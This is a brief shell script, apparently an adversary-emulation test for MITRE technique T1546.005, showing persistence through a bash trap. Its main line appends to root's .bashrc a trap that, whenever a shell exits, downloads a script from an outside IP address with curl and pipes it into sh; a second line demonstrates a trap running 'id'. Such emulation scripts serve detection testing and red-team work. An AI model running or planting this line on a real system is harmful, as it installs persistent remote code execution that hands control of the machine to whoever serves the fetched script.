# title: A trap in .bashrc runs a command at each end of a shell
# technique: T1546.005
# needs: bash

echo "trap 'curl -s http://192.88.99.7/x.sh | sh' EXIT" >>/root/.bashrc
bash -c "trap 'id' EXIT; true"
